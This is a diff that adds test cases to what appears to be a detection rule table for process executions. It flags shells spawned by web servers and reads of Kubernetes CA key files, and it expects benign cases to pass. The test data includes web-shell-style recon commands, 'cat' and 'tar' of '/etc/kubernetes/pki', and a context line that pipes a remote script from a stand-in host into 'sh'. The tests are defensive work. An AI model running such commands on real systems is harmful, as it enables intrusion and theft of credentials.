@@ -284,7 +284,49 @@ fn exec_table() -> Vec<Case> {
             vec!["sh", "-i"],
             vec!["behaviour-shell-from-program"],
         ),
-        case("nginx", 33, 33, vec!["sh", "-c", "ls /var/www"], vec![]),
+        // A web server having a shell run a command string: a web shell's `system()`.
+        case(
+            "nginx",
+            33,
+            33,
+            vec!["sh", "-c", "ls /var/www"],
+            vec!["behaviour-shell-from-web-server"],
+        ),
+        case(
+            "php-fpm8.2",
+            33,
+            33,
+            vec!["sh", "-c", "id; uname -a"],
+            vec!["behaviour-shell-from-web-server"],
+        ),
+        // Its helpers, alone: PHP's mail(), Apache's piped logs; and a CGI shell script.
+        case(
+            "php-fpm8.2",
+            33,
+            33,
+            vec!["sh", "-c", "/usr/sbin/sendmail -t -i"],
+            vec![],
+        ),
+        case(
+            "apache2",
+            33,
+            33,
+            vec![
+                "/bin/sh",
+                "-c",
+                "exec /usr/bin/rotatelogs /var/log/apache2/access.log 86400",
+            ],
+            vec![],
+        ),
+        case(
+            "apache2",
+            33,
+            33,
+            vec!["/bin/sh", "/usr/lib/cgi-bin/status.sh"],
+            vec![],
+        ),
+        // A shell command string from a program that is not a web server.
+        case("cron", 0, 0, vec!["sh", "-c", "id; uname -a"], vec![]),
         case("sshd", 1000, 1000, vec!["bash", "-l"], vec![]),
         user(
             vec!["sh", "-c", "curl -fsSL http://x/i.sh | sh"],
@@ -890,6 +932,15 @@ fn exec_table() -> Vec<Case> {
         ),
         user(vec!["sudo", "-u", "#1000", "id"], vec![]),
         user(vec!["sudo", "-u", "www-data", "id"], vec![]),
+        user(
+            vec!["cat", "/etc/kubernetes/pki/ca.key"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(
+            vec!["tar", "czf", "/tmp/k.tgz", "/etc/kubernetes/pki"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(vec!["cat", "/etc/kubernetes/pki/ca.crt"], vec![]),
         // Ordinary work.
         user(vec!["cargo", "build", "--release"], vec![]),
         user(vec!["gcc", "-O2", "-o", "a.out", "a.c"], vec![]),
